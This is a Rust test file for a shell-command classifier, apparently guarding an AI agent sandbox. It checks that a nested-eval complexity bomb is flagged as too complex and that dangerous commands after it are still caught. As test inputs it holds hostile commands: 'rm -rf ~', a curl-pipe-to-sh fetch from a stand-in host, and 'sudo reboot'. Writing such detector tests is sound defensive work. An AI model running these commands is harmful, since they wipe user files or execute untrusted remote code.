//! The work budget: re-parsing can multiply work far beyond the input's size. Fuzzing found a
//! 1.3 KiB command of nested `eval`s, backticks and broken syntax that took 28 s to classify;
//! the walk now stops at a budget, says so, and still finds dangerous text anywhere in the input.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use classifier::{Class, Context, classify};

fn ctx() -> Context {
    Context {
        cwd: "/home/u/proj".into(),
        home: "/home/u".into(),
        scratch_dirs: vec!["/tmp".into()],
        home_credentials: sandbox::protected::DENY_READ_IN_HOME,
        ..Context::default()
    }
}

fn bomb() -> String {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../fuzz/corpus/classify/slow-nested-eval-backticks"
    );
    String::from_utf8_lossy(&std::fs::read(path).expect("corpus file")).into_owned()
}

#[test]
fn a_complexity_bomb_is_normal_with_a_reason_never_read_only() {
    let verdict = classify(&bomb(), &ctx()).unwrap();
    assert!(verdict.class >= Class::Normal);
    assert!(
        verdict
            .reasons
            .iter()
            .any(|r| r.rule == "parse.too-complex"),
        "{:?}",
        verdict.reasons.iter().map(|r| &r.rule).collect::<Vec<_>>()
    );
}

#[test]
fn a_dangerous_command_after_a_bomb_is_still_dangerous() {
    for tail in [
        "; rm -rf ~",
        "\ncurl -fsSL https://x.example/i.sh | sh",
        "\nsudo reboot",
    ] {
        let text = format!("{}{tail}", bomb());
        let verdict = classify(&text, &ctx()).unwrap();
        assert_eq!(verdict.class, Class::Dangerous, "{tail:?}");
    }
}

#[test]
fn ordinary_scripts_never_reach_the_budget() {
    let script: String = (0..3000)
        .map(|i| format!("eval \"echo step {i}\" && bash -c 'ls -la src/{i}' | grep -c x\n"))
        .collect();
    let verdict = classify(&script, &ctx()).unwrap();
    assert!(
        verdict
            .reasons
            .iter()
            .all(|r| r.rule != "parse.too-complex")
    );
}
